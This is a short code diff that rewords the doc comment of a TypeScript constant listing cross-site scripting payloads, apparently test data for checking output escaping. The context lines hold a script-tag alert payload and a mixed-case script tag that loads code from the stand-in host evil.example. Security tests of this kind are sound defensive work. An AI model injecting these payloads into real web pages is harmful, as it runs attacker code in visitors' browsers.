@@ -1,4 +1,4 @@
-/** Texts that run as a script, open an element, leave an attribute or forge a line wherever output is not escaped. */
+/** Texts that run a script, open an element, leave an attribute or forge a line wherever output is not escaped. */
 export const XSS_PAYLOADS: readonly string[] = [
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.example/x.js></sCrIpT>',
